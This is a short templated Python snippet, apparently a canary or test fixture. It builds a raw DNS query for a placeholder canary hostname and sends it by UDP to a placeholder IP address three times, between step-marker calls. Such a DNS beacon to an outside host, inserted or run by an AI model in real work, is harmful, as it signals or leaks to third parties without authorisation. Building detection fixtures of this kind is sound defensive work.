at_step()
import socket  # step
name = "{{canary.token}}.{{canary.name}}"
labels = b"".join([bytes([len(label)]) + label.encode() for label in name.split(".")])
query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + labels + b"\0\0\x01\0\x01"
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # step
for turn in range(3):
    sender.sendto(query, ("{{canary.ipv4}}", 53))  # step
    tried()
past_step()
